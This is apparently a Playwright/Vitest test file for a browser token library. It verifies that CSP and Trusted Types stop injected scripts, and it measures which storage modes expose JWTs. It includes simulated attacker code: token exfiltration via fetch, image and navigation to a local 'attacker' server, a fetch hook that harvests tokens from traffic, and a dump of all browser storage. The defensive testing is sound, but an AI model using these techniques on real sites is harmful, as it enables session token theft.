/** The claims of docs/security.md that only a real browser can show: policies, and a script of an attacker in the page. */
import { once } from 'node:events'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { fileURLToPath } from 'node:url'
import { build } from 'esbuild'
import { decodeJwt } from 'jose'
import { type Browser, type BrowserContext, chromium, type Page } from 'playwright-core'
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest'
import { type RunningServer, startServer } from '../../demo/server/start.js'
import { findBrowser, launchArguments } from '../../scripts/find-browser.mjs'
import { policyFor } from '../support/csp.js'
import type {} from '../support/security-client.js'

const root = (path: string): string => fileURLToPath(new URL(`../../${path}`, import.meta.url))
const modes = ['memory', 'web', 'indexedDB', 'cookie', 'cookies'] as const
type Mode = (typeof modes)[number]
const isShared = (mode: Mode): boolean => mode !== 'memory'

let server: RunningServer
let site: Server
let origin: string
let browser: Browser
let context: BrowserContext
let script: string
/** The violations of the policy that the pages have reported. */
const violations: string[] = []
/** Requests that have reached the server of the attacker. */
const loot: string[] = []
let attacker: Server

beforeAll(async () => {
  const built = await build({
    entryPoints: [root('test/support/security-client.ts')],
    bundle: true,
    write: false,
    format: 'esm',
    // As the users get it.
    alias: { tokenflight: root('dist/index.js'), 'tokenflight/fetch': root('dist/fetch.js') },
    logLevel: 'error',
  })
  script = built.outputFiles[0]!.text
  server = await startServer({ accessTokenLifetime: 600_000, refreshTokenLifetime: 3_600_000 })
  site = await listen((path, set) => {
    if (path !== '/open') set('Content-Security-Policy', policyFor(server.url))
    if (path === '/logged-out') set('Clear-Site-Data', '"cache", "cookies", "storage"')
    if (path.endsWith('.js')) {
      set('Content-Type', 'text/javascript')
      return script
    }
    set('Content-Type', 'text/html')
    const injected = `<script>globalThis.injected = true</script><script src="${addressOf(attacker)}/script.js"></script>`
    return `<!doctype html><title>page</title><div id="target"></div>${
      path === '/open' || path === '/injected' ? injected : ''
    }<script type="module" src="/page.js"></script>`
  })
  attacker = await listen((path, set) => {
    loot.push(path)
    set('Access-Control-Allow-Origin', '*')
    set('Content-Type', path.endsWith('.js') ? 'text/javascript' : 'text/html')
    return ''
  })
  origin = addressOf(site)
  browser = await chromium.launch({ executablePath: findBrowser(), args: launchArguments })
})
afterAll(async () => {
  await browser?.close()
  await server?.close()
  for (const each of [site, attacker]) {
    each?.close()
    each?.closeAllConnections()
  }
})
afterEach(async () => {
  await context.close()
  server.backend.reset()
  violations.length = 0
  loot.length = 0
})

async function listen(
  answer: (path: string, set: (name: string, value: string) => void) => string,
): Promise<Server> {
  const created = createServer(({ url = '' }, response) => {
    const body = answer(url.replace(/\?.*/, ''), (name, value) => response.setHeader(name, value))
    response.end(body)
  })
  await once(created.listen(0, '127.0.0.1'), 'listening')
  return created
}
const addressOf = (each: Server): string => `http://127.0.0.1:${(each.address() as AddressInfo).port}`

/** A page of a new user. */
async function open(mode: Mode, prepare?: () => void): Promise<Page> {
  server.backend.configure({ transport: mode === 'cookie' || mode === 'cookies' ? mode : 'body' })
  context = await browser.newContext()
  context.setDefaultTimeout(60_000)
  await context.exposeBinding('report', (_, violation: string) => void violations.push(violation))
  await context.addInitScript(() => {
    addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
      Reflect.get(globalThis, 'report')(`${effectiveDirective} ${blockedURI}`),
    )
  })
  if (prepare) await context.addInitScript(prepare)
  return tab(mode)
}
async function tab(mode: Mode): Promise<Page> {
  const page = await context.newPage()
  await page.goto(`${origin}/?mode=${mode}&api=${server.url}`)
  await page.waitForSelector('html[data-ready]')
  await page.evaluate(() => window.page.ready())
  return page
}
const statusOf = (page: Page) => page.evaluate(() => window.page.status())
const request = (page: Page) => page.evaluate(() => window.page.request())

describe.each(modes)('under the policy of the guide, a session in mode %s', mode => {
  it('logs in, refreshes and logs out in two tabs, and no policy is violated', async () => {
    const page = await open(mode)
    await page.evaluate(() => window.page.login())
    expect(await request(page)).toBe(200)
    await page.evaluate(() => window.page.refresh())
    expect([await request(page), server.backend.stats.refreshes]).toEqual([200, 1])
    server.backend.expireAccessTokens()
    expect([await request(page), server.backend.stats.refreshes]).toEqual([200, 2])

    const second = await tab(mode)
    expect(await statusOf(second)).toBe(isShared(mode) ? 'authenticated' : 'anonymous')
    if (!isShared(mode)) await second.evaluate(() => window.page.login())
    expect(await request(second)).toBe(200)
    await page.evaluate(() => window.page.logout())
    await expect.poll(() => statusOf(page)).toBe('anonymous')
    await expect.poll(() => statusOf(second)).toBe(isShared(mode) ? 'anonymous' : 'authenticated')
    expect(violations).toEqual([])
    for (const each of [page, second]) expect(await each.evaluate(() => window.page.warnings)).toEqual([])
  })
})

describe('the policy of the guide', () => {
  it.each([
    ['stops an inline script, a foreign one, and requests that carry a token away', '/injected'],
    ['stops them: without it all of them succeed', '/open'],
  ])('%s', async (_, path) => {
    const isOpen = path === '/open'
    const page = await open('web')
    await page.goto(`${origin}${path}?mode=web&api=${server.url}`)
    await page.waitForSelector('html[data-ready]')
    await page.evaluate(() => window.page.login())
    const isRun = await page.evaluate(async address => {
      // A script that is in the page already, through a library for example.
      const stolen = Object.keys(localStorage).length ? 'token' : 'nothing'
      await fetch(`${address}/fetch-${stolen}`).catch(() => {})
      await new Promise(resolve => {
        const image = new Image()
        image.onload = image.onerror = resolve
        image.src = `${address}/image-${stolen}`
      })
      return 'injected' in globalThis
    }, addressOf(attacker))
    expect([isRun, loot.sort()]).toEqual(
      isOpen ? [true, ['/fetch-token', '/image-token', '/script.js']] : [false, []],
    )
    await expect
      .poll(() => [...new Set(violations.map(each => each.split(' ')[0]))].sort())
      .toEqual(isOpen ? [] : ['connect-src', 'img-src', 'script-src-elem'])
  })

  it('does not stop a navigation, which can carry a token away', async () => {
    const page = await open('web')
    await page.evaluate(() => window.page.login())
    await page.evaluate(address => {
      location.href = `${address}/${Object.keys(localStorage).length ? 'token' : 'nothing'}`
    }, addressOf(attacker))
    await page.waitForURL(/token$/)
    expect(loot).toContain('/token')
  })
})

describe('with Trusted Types', () => {
  it('text that becomes HTML or a script is refused, and the session goes on', async () => {
    const page = await open('web')
    await page.evaluate(() => window.page.login())
    const refused = await page.evaluate(() => {
      const ways: Record<string, () => void> = {
        innerHTML() {
          document.querySelector('#target')!.innerHTML = '<img src="x">'
        },
        src() {
          document.createElement('script').src = '/page.js'
        },
        text() {
          document.createElement('script').text = 'globalThis.stolen = true'
        },
        policy() {
          Reflect.get(globalThis, 'trustedTypes').createPolicy('default', { createHTML: String })
        },
      }
      return Object.keys(ways).filter(name => {
        try {
          ways[name]?.()
          return false
        } catch (error) {
          return error instanceof TypeError
        }
      })
    })
    expect(refused).toEqual(['innerHTML', 'src', 'text', 'policy'])
    await page.evaluate(() => window.page.refresh())
    expect(await request(page)).toBe(200)
  })
})

/** The tokens in a text: `access`, `refresh`, or both. */
function tokensIn(text: string): string[] {
  const uses = text.match(/eyJ[\w-]+\.eyJ[\w-]+\.[\w-]+/g)?.map(token => `${decodeJwt(token)['token_use']}`)
  return [...new Set(uses)].sort()
}

/** Everything that a script can read without waiting for a request. */
async function readStores(page: Page): Promise<string> {
  return page.evaluate(async () => {
    const found: unknown[] = [{ ...localStorage }, { ...sessionStorage }, document.cookie]
    for (const { name = '' } of await indexedDB.databases()) {
      const database = await new Promise<IDBDatabase>(resolve => {
        const opening = indexedDB.open(name)
        opening.onsuccess = () => resolve(opening.result)
      })
      for (const store of database.objectStoreNames) {
        const reading = database.transaction(store).objectStore(store).getAll()
        found.push(await new Promise(resolve => (reading.onsuccess = () => resolve(reading.result))))
      }
      database.close()
    }
    return JSON.stringify(found)
  })
}

describe('a script of an attacker in the page', () => {
  it.each<[Mode, string[]]>([
    ['memory', []],
    ['web', ['access', 'refresh']],
    ['indexedDB', ['access', 'refresh']],
    ['cookie', []],
    ['cookies', []],
  ])('finds at rest, in mode %s: %j', async (mode, expected) => {
    const page = await open(mode)
    await page.evaluate(() => window.page.login())
    expect(tokensIn(await readStores(page))).toEqual(expected)
    // Also after the page was closed, as on a stolen device.
    await page.close()
    const blank = await context.newPage()
    await blank.goto(`${origin}/logged-in.js`)
    expect(tokensIn(await readStores(blank))).toEqual(expected)
  })

  it.each(modes)(
    'finds nothing at rest after a logout that has reached the server, in mode %s',
    async mode => {
      const page = await open(mode)
      await page.evaluate(() => window.page.login())
      await page.evaluate(() => window.page.logout())
      expect(server.backend.stats.logouts).toBe(1)
      await expect.poll(async () => tokensIn(await readStores(page))).toEqual([])
    },
  )

  it.each<[Mode, string[]]>([
    ['memory', ['access', 'refresh']],
    ['web', ['access', 'refresh']],
    ['indexedDB', ['access', 'refresh']],
    ['cookie', ['access']],
    ['cookies', []],
  ])('gets from the requests that it listens to, in mode %s: %j', async (mode, expected) => {
    const page = await open(mode, () => {
      const plain = globalThis.fetch
      const heard: string[] = []
      Reflect.set(globalThis, 'heard', heard)
      globalThis.fetch = async (input, init) => {
        const sent = new Request(input, init)
        heard.push(JSON.stringify([...sent.headers]), await sent.clone().text())
        const response = await plain(input, init)
        heard.push(JSON.stringify([...response.headers]), await response.clone().text())
        return response
      }
    })
    await page.evaluate(() => window.page.login())
    await page.evaluate(() => window.page.refresh())
    expect(await request(page)).toBe(200)
    const heard = await page.evaluate(() => Reflect.get(globalThis, 'heard') as string[])
    expect(tokensIn(heard.join('\n'))).toEqual(expected)
  })

  it('can ask for the access token in every mode but that of two cookies, and can send requests in each', async () => {
    for (const mode of modes) {
      const page = await open(mode)
      await page.evaluate(() => window.page.login())
      const token = await page.evaluate(() => window.page.token())
      expect([mode, tokensIn(`${token}`), await request(page)]).toEqual([
        mode,
        mode === 'cookies' ? [] : ['access'],
        200,
      ])
      if (mode !== 'cookies') await context.close()
    }
  })
})

describe('a page that answers with Clear-Site-Data', () => {
  it.each<Mode>(['web', 'indexedDB'])('ends the session of this browser for good, in mode %s', async mode => {
    const page = await open(mode)
    await page.evaluate(() => window.page.login())
    await page.evaluate(() => window.page.logout())
    await page.goto(`${origin}/logged-out?mode=${mode}&api=${server.url}`)
    await page.waitForSelector('html[data-ready]')
    await page.evaluate(() => window.page.ready())
    expect([await statusOf(page), tokensIn(await readStores(page))]).toEqual(['anonymous', []])
    // A login works as ever.
    await page.evaluate(() => window.page.login())
    expect([await request(page), await statusOf(page)]).toEqual([200, 'authenticated'])
  })

  it.each<Mode>(['web', 'indexedDB'])(
    'leaves nothing at rest without a logout either, in mode %s',
    async mode => {
      const page = await open(mode)
      await page.evaluate(() => window.page.login())
      await page.close()
      const next = await context.newPage()
      await next.goto(`${origin}/logged-out?mode=${mode}&api=${server.url}`)
      await next.waitForSelector('html[data-ready]')
      await next.evaluate(() => window.page.ready())
      expect([await statusOf(next), tokensIn(await readStores(next))]).toEqual(['anonymous', []])
    },
  )
})
